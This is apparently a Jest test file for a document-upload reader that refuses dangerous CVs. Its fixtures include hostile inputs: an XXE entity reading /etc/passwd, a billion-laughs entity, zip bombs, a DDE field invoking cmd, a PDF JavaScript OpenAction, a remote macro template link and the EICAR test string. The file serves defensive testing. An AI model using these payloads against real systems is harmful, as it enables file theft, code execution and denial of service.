import { describe, expect, it, jest } from '@jest/globals';
import { Logger } from '@nestjs/common';
import { DomainError } from '@reshelve/domain/errors';
import { textOf } from '@reshelve/domain/documents';
import { onPaper } from '../../src/platform/papers/paper-process.ts';
import type { ProcessLimits } from '../../src/platform/processes/process.ts';
import { PAPER_LIMIT } from '../../src/platform/papers/paper.ts';
import { Papers } from '../../src/platform/papers/papers.ts';
import { cv, docxParts, PIXEL, withAgain, wordOf, zipOf } from './documents.ts';
import { pdfOf, plainPdf } from './pdf-documents.ts';

const papers = new Papers();
/** What reading a file ends in: its words, or the code of the refusal. */
const outcome = async (content: Uint8Array, name = 'cv.docx'): Promise<string> => {
  try {
    return textOf((await papers.read(content, name)).document);
  } catch (error) {
    if (!(error instanceof DomainError)) throw error;
    expect(error.details).toEqual({ file: error.message });
    return String(error.code);
  }
};
const HELLO = '<w:p><w:r><w:t>Hello</w:t></w:r></w:p>';
const OLE = Buffer.from('D0CF11E0A1B11AE1', 'hex');
// In two halves, so that no scanner takes this file for a virus.
const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join(
  '',
);

describe('a file is refused with the reason', () => {
  it.each([
    ['an empty one', '', 'paper-empty'],
    ['a picture', PIXEL, 'paper-kind'],
    ['a web page', '<!DOCTYPE html><p>Mary', 'paper-kind'],
    ['Rich Text', '{\\rtf1 Mary}', 'paper-kind'],
    ['a program', 'MZ\0\0', 'paper-kind'],
    ['bytes that are nothing', Buffer.from([1, 2, 3, 0, 255]), 'paper-kind'],
    [
      'a document of an old Word',
      Buffer.concat([OLE, Buffer.from('WordDocument', 'utf16le')]),
      'paper-kind',
    ],
    [
      'a locked document',
      Buffer.concat([OLE, Buffer.from('EncryptedPackage', 'utf16le')]),
      'paper-locked',
    ],
    ['the test string of virus scanners', EICAR, 'paper-alarming'],
  ])('%s', async (_, content, code) => {
    expect(await outcome(Buffer.from(content as string))).toBe(code);
  });

  it('macros, by their part and by the document’s type', async () => {
    expect(await outcome(await wordOf(HELLO, { 'word/vbaProject.bin': 'x' }))).toBe('paper-macros');
    const type = 'application/vnd.ms-word.document.macroEnabled.main+xml';
    expect(await outcome(await wordOf(HELLO, { type }))).toBe('paper-macros');
  });

  it('spreadsheets, presentations and other archives', async () => {
    const type = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';
    expect(await outcome(await wordOf(HELLO, { type }))).toBe('paper-kind');
    expect(await outcome(await zipOf({ 'a.txt': 'Hello' }))).toBe('paper-kind');
  });

  it('the test string of virus scanners in a packed part', async () => {
    const packed = await wordOf(HELLO, { 'word/media/a.bin': `${'-'.repeat(70_000)}${EICAR}` });
    expect(packed.includes(EICAR)).toBe(false);
    expect(await outcome(packed)).toBe('paper-alarming');
  });

  it('one that is cut short, or damaged', async () => {
    const whole = await cv();
    expect(await outcome(whole.subarray(0, whole.length / 2))).toBe('paper-broken');
    const cut = docxParts(HELLO);
    cut['word/document.xml'] = cut['word/document.xml']?.slice(0, -30) ?? '';
    expect(await outcome(await zipOf(cut))).toBe('paper-broken');
    const without = docxParts(HELLO);
    delete without['word/document.xml'];
    expect(await outcome(await zipOf(without))).toBe('paper-broken');
  });

  it('two kinds of file in one', async () => {
    const word = await wordOf(HELLO);
    const pdf = Buffer.from('%PDF-1.7\n%%EOF\n');
    const letter = Buffer.from('Dear Sir or Madam\n');
    expect(await outcome(Buffer.concat([pdf, word]))).toBe('paper-two-kinds');
    expect(await outcome(Buffer.concat([PIXEL, word]))).not.toBe('Hello');
    expect(await outcome(Buffer.concat([letter, word]))).not.toBe('Hello');
    expect(await outcome(Buffer.concat([letter, plainPdf('')]))).toBe('paper-two-kinds');
    expect(await outcome(Buffer.from('I write %PDF-1.7 by hand'))).toBe('I write %PDF-1.7 by hand');
    const first = await zipOf({ mimetype: '%PDF-1.7', ...docxParts(HELLO) });
    expect(await outcome(first)).toBe('paper-two-kinds');
    expect(await outcome(Buffer.concat([word, Buffer.from('more')]))).toBe('paper-broken');
  });

  it('one that unpacks to far more than it is', async () => {
    const bomb = await wordOf(HELLO, { 'word/media/a.bin': '0'.repeat(130_000_000) });
    expect(bomb.length).toBeLessThan(PAPER_LIMIT);
    expect(await outcome(bomb)).toBe('paper-unpacks-too-far');
    const parts = Array.from({ length: 2_100 }, (_, i): [string, string] => [`word/${i}.xml`, '']);
    expect(await outcome(await wordOf(HELLO, Object.fromEntries(parts)))).toBe(
      'paper-unpacks-too-far',
    );
  });

  it('one that says less about its size than is true', async () => {
    const bomb = await wordOf(`${HELLO}${'<w:p/>'.repeat(100_000)}`);
    const name = bomb.lastIndexOf('word/document.xml');
    bomb.writeUInt32LE(1_000, name - 46 + 24);
    expect(await outcome(bomb)).toBe('paper-unpacks-too-far');
  });

  it('parts that lie over each other, or have one name', async () => {
    const zip = await wordOf(HELLO, { 'word/media/a.bin': '0'.repeat(1_000_000) });
    expect(await outcome(withAgain(zip, 'word/media/a.bin', 200))).toBe('paper-unpacks-too-far');
    expect(await outcome(withAgain(zip, 'word/document.xml', 1))).toBe('paper-broken');
    const twice = await wordOf(HELLO, { 'WORD/document.xml': '' });
    expect(await outcome(twice)).toBe('paper-broken');
  });

  it('what fetches from the web, or starts programs, when it is opened', async () => {
    const settings = (target: string) => ({
      'word/_rels/settings.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="http://x/attachedTemplate" TargetMode="External" Target="${target}"/></Relationships>`,
    });
    const template = 'https://a.example/macros.dotm';
    expect(await outcome(await wordOf(HELLO, settings(template)))).toBe('paper-fetches');
    const usual = 'file:///C:\\Templates\\Normal.dotm';
    expect(await outcome(await wordOf(HELLO, settings(usual)))).toBe('Hello');
    const field = (type: string): string => `<w:fldChar w:fldCharType="${type}"/>`;
    const dde = `<w:p><w:r>${field('begin')}<w:instrText> DDE</w:instrText><w:instrText>AUTO cmd </w:instrText>${field('end')}</w:r></w:p>`;
    expect(await outcome(await wordOf(dde))).toBe('paper-macros');
    const action = '/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>';
    expect(await outcome(plainPdf('', action))).toBe('paper-macros');
    expect(await outcome(plainPdf(''))).toBe('');
  });

  it('the test string of virus scanners in a file within a PDF', async () => {
    const pdf = await pdfOf((page) => page.text('Hello').file(Buffer.from(EICAR), { name: 'a' }));
    expect(pdf.includes(EICAR)).toBe(false);
    expect(await outcome(pdf)).toBe('paper-alarming');
  });

  it('XML that grows without end, or reads other files', async () => {
    const laughs = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>';
    expect(await outcome(await wordOf(HELLO, { before: laughs }))).toBe('paper-broken');
    const outside = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>';
    const body = HELLO.replace('Hello', '&a;');
    expect(await outcome(await wordOf(body, { before: outside }))).toBe('paper-broken');
    expect(await outcome(await wordOf('<w:sdt>'.repeat(100_000)))).toBe('paper-broken');
  });

  it('more words than a thousand pages', async () => {
    expect(await outcome(Buffer.from('word '.repeat(400_000)), 'a.txt')).toBe('paper-too-much');
  });

  it('one that is larger than is taken, before all of it is in memory', async () => {
    let taken = 0;
    async function* endless(): AsyncGenerator<Uint8Array> {
      for (;;) {
        taken += 1_000_000;
        yield await Promise.resolve(new Uint8Array(1_000_000));
      }
    }
    await expect(papers.read(endless(), 'a')).rejects.toMatchObject({ code: 'paper-too-large' });
    expect(taken).toBeLessThan(PAPER_LIMIT + 2_000_000);
  });
});

describe('the process of a file', () => {
  const bytes = Buffer.from('word '.repeat(100_000));
  const plenty = { time: 60_000, heap: 384, memory: 700 };
  const refusal = (content: Uint8Array, limits: Partial<ProcessLimits>): Promise<unknown> =>
    onPaper({ do: 'read', bytes: content, name: 'a.txt' }, { ...plenty, ...limits }).then(
      () => 'read',
      (error: unknown) => (error as { code?: unknown }).code,
    );

  it('is ended when it takes too long', async () => {
    expect(await refusal(bytes, { time: 1 })).toBe('paper-too-much');
  });

  it('is ended when it takes too much memory, and nothing else is', async () => {
    const body = '<w:p/>'.repeat(2_000_000);
    const many = await zipOf({
      ...docxParts(HELLO),
      'word/document.xml': `<w:x xmlns:w="a">${body}</w:x>`,
    });
    expect(await refusal(many, { heap: 60 })).toBe('paper-too-much');
    expect(await refusal(many, { memory: 100 })).toBe('paper-unpacks-too-far');
    expect(await outcome(await wordOf(HELLO))).toBe('Hello');
  });

  it('says so where it fails, and no more', async () => {
    const loud = jest.spyOn(Logger.prototype, 'error').mockImplementation(() => undefined);
    // No name of a file can be sent to the process that way.
    const fault = papers.read(Buffer.from('Hello'), Symbol('name') as unknown as string);
    await expect(fault).rejects.toMatchObject({ code: 'paper-unreadable' });
    expect(loud).toHaveBeenCalledTimes(1);
    loud.mockRestore();
  });

  it('is one of few: others wait, and too many are turned away', async () => {
    const word = Buffer.from('word');
    const some = Array.from({ length: 30 }, () => outcome(word, 'a.txt').catch(() => 'failed'));
    const ends = await Promise.all(some);
    expect(new Set(ends)).toEqual(new Set(['word', 'failed']));
    expect(ends.filter((end) => end === 'word')).toHaveLength(22);
  });
});
